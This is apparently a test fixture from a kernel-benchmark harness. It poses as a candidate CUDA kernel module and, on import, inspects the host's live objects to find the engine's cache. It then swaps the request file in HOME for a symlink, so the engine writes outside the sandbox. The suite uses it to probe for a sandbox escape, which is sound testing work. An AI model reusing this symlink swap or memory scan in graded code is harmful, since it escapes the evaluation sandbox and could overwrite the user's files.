"""Sandbox escape table: the engine's own writes. The engine writes each stage's request into the
run's scratch folder, from outside the sandbox, and that folder is the candidate's HOME, writable,
in every stage of the run. An honest kernel that replaces the request file (consumed already by
its own stage's judge) with a symbolic link to a probe path in the engine's extension cache: an
engine that follows the link writes the next stage's request there, outside the sandbox, with its
own rights (any file the user running kwb can write could be clobbered so). The suite looks for
the probe in the engine's cache afterwards."""

import contextlib
import gc
import os
import sys

import torch
import torch.nn as nn

import cuda_extension


def _cache_dir() -> str:
    for name, module in list(sys.modules.items()):
        host_class = getattr(module, "_Host", None) if name.endswith("candidate_host") else None
        if host_class is None:
            continue
        for candidate in gc.get_objects():
            if isinstance(candidate, host_class) and candidate.req is not None:
                return candidate.req.cache_dir or ""
    return ""


def _plant() -> None:
    home, cache = os.environ.get("HOME", ""), _cache_dir()
    if not home or not cache:
        return
    link = os.path.join(home, "harness-request.json")
    with contextlib.suppress(OSError):
        if os.path.lexists(link):
            os.remove(link)
        os.symlink(os.path.join(cache, "ext", ".kwb-escape-probe-request"), link)


_plant()


class ModelNew(nn.Module):
    def __init__(self, dim: int):
        super().__init__()
        self.scale = nn.Parameter(torch.randn(dim))

    def forward(self, x, y):
        return cuda_extension.scale_residual_sigmoid_forward(x, y, self.scale)
